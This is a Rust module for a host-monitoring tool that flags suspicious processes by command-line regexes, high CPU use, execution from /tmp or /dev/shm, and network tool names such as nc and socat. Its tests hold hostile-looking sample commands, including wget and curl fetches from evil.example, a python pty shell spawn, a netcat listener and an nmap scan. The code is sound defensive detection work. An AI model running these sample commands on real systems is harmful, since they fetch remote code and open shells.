use regex::Regex;
use std::collections::HashSet;
use std::path::Path;

use hostwatch_types::ProcessSnapshot;

/// Command-line fragments that point at reconnaissance, exfiltration or droppers
const CMDLINE_INDICATORS: &[&str] = &[
    r"\bnc\s",
    r"\bnmap\b",
    r"\btcpdump\b",
    r"\bhping",
    r"\bsocat\b",
    r"\btelnet\b",
    r"\bftp\b",
    r"\bwget\b\s.*http",
    r"curl\s.*http",
    r"chmod\s.*777",
    r"/tmp/",
    r"\.exe\b",
    r"\bpython\b.*-c\s",
];

/// Names that are known to legitimately pin a core
const CPU_ALLOW_LIST: &[&str] = &[
    "chrome", "firefox", "python3", "code", "top", "htop", "stress", "tmux", "screen",
];

/// Transient, world-writable locations nothing should be executed from
const TRANSIENT_DIRS: &[&str] = &["/tmp", "/dev/shm", "/var/tmp"];

/// Raw network tools flagged by name alone
const NETWORK_TOOL_NAMES: &[&str] = &["nc", "ncat", "telnet", "ftp", "socat"];

/// CPU utilization above which a process is flagged
pub const CPU_THRESHOLD: f32 = 95.0;

/// Heuristic suspicion rules for a single process
#[derive(Clone, Debug)]
pub struct ProcessEvaluator {
    indicators: Vec<Regex>,
    cpu_allow_list: HashSet<String>,
    cpu_threshold: f32,
}

impl ProcessEvaluator {
    pub fn new() -> Self {
        let indicators = CMDLINE_INDICATORS
            .iter()
            .map(|p| Regex::new(&format!("(?i){}", p)))
            .collect::<Result<Vec<_>, _>>()
            .expect("built-in command-line indicators compile");

        Self {
            indicators,
            cpu_allow_list: CPU_ALLOW_LIST.iter().map(|s| s.to_string()).collect(),
            cpu_threshold: CPU_THRESHOLD,
        }
    }

    /// Extend the CPU allow-list with extra process names
    pub fn with_allowed<I, S>(mut self, names: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.cpu_allow_list
            .extend(names.into_iter().map(|n| n.as_ref().to_lowercase()));
        self
    }

    /// True when any rule fires
    pub fn is_suspicious(&self, snapshot: &ProcessSnapshot) -> bool {
        self.cmdline_matches(snapshot)
            || self.cpu_exceeds(snapshot)
            || self.runs_from_transient_dir(snapshot)
            || self.is_network_tool(snapshot)
    }

    fn cmdline_matches(&self, snapshot: &ProcessSnapshot) -> bool {
        if snapshot.cmdline.is_empty() {
            return false;
        }
        let cmdline = snapshot.joined_cmdline();
        self.indicators.iter().any(|re| re.is_match(&cmdline))
    }

    fn cpu_exceeds(&self, snapshot: &ProcessSnapshot) -> bool {
        snapshot.cpu_percent > self.cpu_threshold
            && !self
                .cpu_allow_list
                .contains(&snapshot.name.to_lowercase())
    }

    fn runs_from_transient_dir(&self, snapshot: &ProcessSnapshot) -> bool {
        // Unreadable executable path contributes nothing
        let Some(exe) = snapshot.exe.as_deref() else {
            return false;
        };
        TRANSIENT_DIRS.iter().any(|dir| exe.starts_with(Path::new(dir)))
    }

    fn is_network_tool(&self, snapshot: &ProcessSnapshot) -> bool {
        let name = snapshot.name.to_lowercase();
        NETWORK_TOOL_NAMES.contains(&name.as_str())
    }
}

impl Default for ProcessEvaluator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_netcat_listener_is_suspicious() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("bash").with_cmdline(["nc", "-l", "4444"]);
        assert!(eval.is_suspicious(&snap));
    }

    #[test]
    fn test_busy_browser_is_allowed() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("chrome")
            .with_cmdline(["/opt/google/chrome/chrome", "--type=renderer"])
            .with_exe("/opt/google/chrome/chrome")
            .with_cpu(99.0);
        assert!(!eval.is_suspicious(&snap));
    }

    #[test]
    fn test_busy_unknown_process_is_flagged() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("xmrig-worker").with_cpu(99.5);
        assert!(eval.is_suspicious(&snap));

        let calm = ProcessSnapshot::new("xmrig-worker").with_cpu(40.0);
        assert!(!eval.is_suspicious(&calm));
    }

    #[test]
    fn test_extra_allowed_names() {
        let eval = ProcessEvaluator::new().with_allowed(["Blender"]);
        let snap = ProcessSnapshot::new("blender").with_cpu(100.0);
        assert!(!eval.is_suspicious(&snap));
    }

    #[test]
    fn test_exe_under_tmp_is_flagged() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("payload").with_exe("/tmp/payload");
        assert!(eval.is_suspicious(&snap));

        let shm = ProcessSnapshot::new("x").with_exe("/dev/shm/.x");
        assert!(eval.is_suspicious(&shm));
    }

    #[test]
    fn test_tmp_prefix_requires_component_boundary() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("tool").with_exe("/tmpfs-tools/tool");
        assert!(!eval.is_suspicious(&snap));
    }

    #[test]
    fn test_missing_exe_is_not_a_signal() {
        let eval = ProcessEvaluator::new();
        let snap = ProcessSnapshot::new("kworker/0:1");
        assert!(!eval.is_suspicious(&snap));
    }

    #[test]
    fn test_network_tool_name_alone() {
        let eval = ProcessEvaluator::new();
        assert!(eval.is_suspicious(&ProcessSnapshot::new("NCAT")));
        assert!(eval.is_suspicious(&ProcessSnapshot::new("socat")));
        assert!(!eval.is_suspicious(&ProcessSnapshot::new("sshd")));
    }

    #[test]
    fn test_cmdline_indicators() {
        let eval = ProcessEvaluator::new();
        let flagged = [
            vec!["wget", "-q", "http://evil.example/x"],
            vec!["curl", "-s", "https://evil.example/install.sh"],
            vec!["chmod", "777", "/srv/share"],
            vec!["python", "-c", "import pty; pty.spawn('/bin/sh')"],
            vec!["wine", "setup.exe"],
            vec!["/usr/bin/nmap", "-sS", "10.0.0.0/24"],
        ];
        for cmd in flagged {
            let snap = ProcessSnapshot::new("shell").with_cmdline(cmd.clone());
            assert!(eval.is_suspicious(&snap), "{:?} should be flagged", cmd);
        }

        let benign = ProcessSnapshot::new("rsync").with_cmdline(["rsync", "-a", "src/", "dst/"]);
        assert!(!eval.is_suspicious(&benign));
    }
}
